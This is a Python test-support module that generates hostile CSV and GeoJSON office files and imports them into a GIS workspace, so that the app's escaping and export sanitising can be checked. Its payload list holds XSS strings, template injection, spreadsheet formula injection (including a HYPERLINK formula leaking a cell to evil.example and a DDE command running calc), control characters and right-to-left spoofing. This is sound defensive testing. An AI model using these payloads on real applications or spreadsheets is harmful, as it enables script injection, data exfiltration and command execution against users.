"""A hostile-input corpus: office files whose every text field carries an attack or a trap.

The files are laid out as offices hand them over (:mod:`tests.office_files`):
households and resettlement sites as CSV, commune boundaries and hazard zones
as GeoJSON, indicator values as CSV. Geometry and codes come from a few demo
communes, so every row is imported (a hostile *text* never costs a row); what
is hostile is the text: HTML and JavaScript, template syntax, spreadsheet
formulas (``=``, ``+``, ``-``, ``@``, tab and carriage-return prefixes),
control characters, right-to-left marks and 10 kB strings.

:func:`build_workspace` imports the whole corpus into a new workspace with
:func:`geo.importer.prepare` and :func:`geo.importer.commit`.

Every payload that would put an element on a page carries a marker
(:data:`INJECTED_SELECTORS` finds such elements in a browser,
:data:`INJECTED_TAGS` finds them unescaped in HTML or JavaScript text).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import geopandas as gpd
import pandas as pd
import shapely
from openpyxl import load_workbook

#: Three neighbouring demo communes: small files, every map still has something to draw.
COMMUNES = ["01267", "01270", "01273"]

#: 10 kB of markup: a name nobody types, which must neither break a page nor inject.
LONG = ("<i class=hostile-long>x</i>" * 400)[:10_000]

#: The payloads, each put (with a serial number after it, so ids stay distinct) into every text field in turn.
PAYLOADS = [
    "<img src=x onerror=alert(document.domain)>",
    "<script>alert('hostile-script')</script>",
    '"><svg class=hostile-svg onload=alert(1)>',
    "</script><script>alert('hostile-close')</script>",
    "'><iframe class=hostile-frame src=javascript:alert(3)></iframe>",
    "<a class=hostile-link href=javascript:alert(5)>click</a>",
    "{{ 7*7 }}{% if true %}jinja{% endif %}",
    "${alert(4)}`;alert(6);`",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "ctrl\x01\x07\x1b[31mred\x7f\x0b\x0c\x1e\u0085\u009b",
    "\u202egnp.exe\u202c RTL \u200f\u200e mark",
    "$\\alert{1}$ mathtext $x^{$",
    LONG,
]

#: CSS selectors of elements any payload would create if it got into a page as markup
#: (and a script's text the "<script>" payloads would leave in one).
INJECTED_SELECTORS = ["img[src='x']", "svg.hostile-svg", "iframe.hostile-frame", "a.hostile-link", "i.hostile-long"]
INJECTED_SCRIPT = "alert('hostile-"
#: The same elements as text, as they would appear unescaped in HTML or in a string bound for innerHTML.
INJECTED_TAGS = ["<img src=x", "<script>alert", "<svg class=hostile-svg", "<iframe class=hostile-frame",
                 "<a class=hostile-link", "<i class=hostile-long"]
#: The prefixes a spreadsheet reads as a formula (OWASP CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")



def csv_cells(path: str | Path) -> list[str]:
    """Every cell of a CSV file written by an export (UTF-8 with its byte-order mark), row after row."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def runnable_cells(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would run as a formula: a formula prefix, and not a plain number (-2 is one)."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and not number(c)]


def xlsx_quoted_texts(path: str | Path) -> list[str]:
    """Assert that a workbook holds no formula and that every formula-like text carries Excel's quote prefix;
    return those texts, one per cell."""
    quoted = []
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{Path(path).name}!{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} lacks the quote prefix"
                    quoted.append(cell.value)
    return quoted

#: Control characters that make :mod:`geo.safefiles` refuse a whole CSV as binary (it reads only
#: UTF-8 text): CSV files carry the remaining ones (vertical tab, form feed, record separator, DEL, C1).
CSV_REFUSED = re.compile("[\x00-\x08\x0e-\x19\x1b-\x1d\x1f]")


def hostile(n: int, csv: bool = False) -> str:
    """The ``n``-th hostile text: payload ``n`` (cycling) followed by `` #n`` so that ids stay distinct.

    ``csv``: without the control characters a CSV may not hold (:data:`CSV_REFUSED`).

    >>> hostile(9)
    '=1+1 #9'
    >>> CSV_REFUSED.search(hostile(16)) is not None, CSV_REFUSED.search(hostile(16, csv=True)) is None
    (True, True)
    """
    text = f"{PAYLOADS[n % len(PAYLOADS)]} #{n}"
    return CSV_REFUSED.sub("", text) if csv else text


def _counter(start: int, csv: bool = False):
    n = start
    while True:
        yield hostile(n, csv)
        n += 1


def _to_csv(frame: pd.DataFrame, path: Path) -> None:
    """As Excel saves a CSV: CRLF line ends, so a field holding a carriage return or a line feed is quoted."""
    frame.to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")


def _demo():
    from geo.dataset import load

    return load()


def _strips(polygon, parts: int) -> list:
    minx, miny, maxx, maxy = polygon.bounds
    edges = [minx + (maxx - minx) * i / parts for i in range(parts + 1)]
    return [shapely.make_valid(polygon.intersection(shapely.box(a, miny - 1, b, maxy + 1)))
            for a, b in zip(edges[:-1], edges[1:])]


def write_corpus(folder: str | Path) -> dict[str, Path]:
    """Write the five files into ``folder``; returns ``{kind: path}`` in the order to import them.

    * ``communes``: each demo commune cut in three strips; the one holding
      the commune's centre is recognised by its location (its hostile name
      kept as the office's own unit name), the others match nothing and are
      kept as the office's own units, under their hostile names and codes.
    * ``hazards``: the demo zones of those communes, hostile zone names.
    * ``sites``: a site in each strip, hostile ids and names.
    * ``households``: demo households, with hostile ids, village, ethnicity,
      commune name, site, head's name and identity number.
    * ``indicators``: values per commune and per (hostile) village.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    demo = _demo()
    text = _counter(0)
    communes = demo.communes(2020)
    communes = communes.loc[communes["ma_xa"].isin(COMMUNES)].to_crs(4326)
    rows = []
    for code, district, polygon in zip(communes["ma_xa"], communes["district_vi"], communes.geometry):
        for i, part in enumerate(_strips(polygon, 3)):
            rows.append({"Mã xã": code if i == 0 else next(text), "Tên xã": next(text),
                         "Huyện": district if i == 0 else next(text), "Ghi chú": next(text), "geometry": part})
    paths = {}
    paths["communes"] = folder / "ranh_gioi_xa.geojson"
    paths["communes"].write_text(gpd.GeoDataFrame(rows, crs=4326).to_json(), encoding="utf-8")

    area = communes.union_all()
    zones = demo.zones.to_crs(4326)
    zones = zones.loc[zones.intersects(area)].copy()
    zones["geometry"] = zones.intersection(area)
    zones = zones.loc[~zones.is_empty & zones.geom_type.isin(["Polygon", "MultiPolygon"])]
    zone_file = gpd.GeoDataFrame({"Tên": [next(text) for _ in range(len(zones))],
                                  "Loại thiên tai": zones["hazard_type"].to_numpy(),
                                  "Cấp độ": zones["level"].astype(int).to_numpy(),
                                  "Ghi chú": [next(text) for _ in range(len(zones))]},
                                 geometry=zones.geometry.to_numpy(), crs=4326)
    paths["hazards"] = folder / "vung_nguy_co.geojson"
    paths["hazards"].write_text(zone_file.to_json(), encoding="utf-8")

    text = _counter(1000, csv=True)  # CSV files: numbers of their own, no control character CSV_REFUSED
    points = [shapely.Point(g.representative_point().x, g.representative_point().y) for g in
              gpd.GeoSeries([r["geometry"] for r in rows], crs=4326)]
    sites = pd.DataFrame({"Mã điểm": [next(text) for _ in points], "Tên điểm": [next(text) for _ in points],
                          "Kinh độ": [p.x for p in points], "Vĩ độ": [p.y for p in points],
                          "Sức chứa": [40] * len(points), "Tên xã": [next(text) for _ in points]})
    sites.loc[len(sites) - 1, "Tên điểm"] = hostile(PAYLOADS.index(LONG) + 100 * len(PAYLOADS), csv=True)  # 10 kB
    paths["sites"] = folder / "diem_tai_dinh_cu.csv"
    _to_csv(sites, paths["sites"])

    homes = demo.households.loc[demo.households["ma_xa"].isin(COMMUNES)].to_crs(4326)
    homes = homes.groupby("ma_xa", group_keys=False).head(len(PAYLOADS) * 2)
    n = len(homes)
    statuses = ["not_planned", "planned", "resettled", "stabilised_in_place"]
    households = pd.DataFrame({
        "Mã hộ": [next(text) for _ in range(n)],
        "Họ tên chủ hộ": [next(text) for _ in range(n)],
        "Số định danh": [next(text) for _ in range(n)],
        "Kinh độ": homes.geometry.x.round(6).to_numpy(), "Vĩ độ": homes.geometry.y.round(6).to_numpy(),
        "Dân tộc": [next(text) for _ in range(n)],
        "Xã": [next(text) for _ in range(n)],
        "Thôn": [next(text) for _ in range(n)],
        "Số khẩu": homes["members"].to_numpy(),
        "Hộ nghèo": ["có" if p else "không" for p in homes["poor"]],
        "Cư trú phân tán": ["có" if s else "không" for s in homes["scattered"]],
        "DTTS": ["có"] * n,
        "Tình trạng di dời": [statuses[i % len(statuses)] for i in range(n)],
        "Mã điểm": [sites["Mã điểm"].iloc[i % len(sites)] for i in range(n)],
        "Ghi chú": [next(text) for _ in range(n)],
    })
    paths["households"] = folder / "ho_dan.csv"
    _to_csv(households, paths["households"])

    values = []
    for code in COMMUNES:
        for year in (2021, 2022, 2023):
            values.append({"Mã xã": code, "Thôn": None, "Chỉ tiêu": "2", "Năm": year, "Giá trị": 40 + year - 2021,
                           "Ghi chú": next(text)})
            values.append({"Mã xã": code, "Thôn": next(text), "Chỉ tiêu": "2", "Năm": year,
                           "Giá trị": 30.5, "Ghi chú": next(text)})
    paths["indicators"] = folder / "chi_tieu.csv"
    _to_csv(pd.DataFrame(values), paths["indicators"])
    return {kind: paths[kind] for kind in ("communes", "hazards", "sites", "households", "indicators")}


def build_workspace(folder: str | Path, imported_by: str = "<img src=x onerror=alert(1)> =1+1") -> tuple[Path, dict]:
    """Import the corpus into a new workspace ``folder/ws.gpkg``; returns its path and the import reports."""
    from geo.importer import commit, known_to, prepare

    folder = Path(folder)
    files = write_corpus(folder / "files")
    path = folder / "ws.gpkg"
    reports = {}
    for kind, source in files.items():
        report = prepare(source, kind, lang="en", **known_to(path))
        commit(report, path, imported_by=imported_by)
        reports[kind] = report
    return path, reports
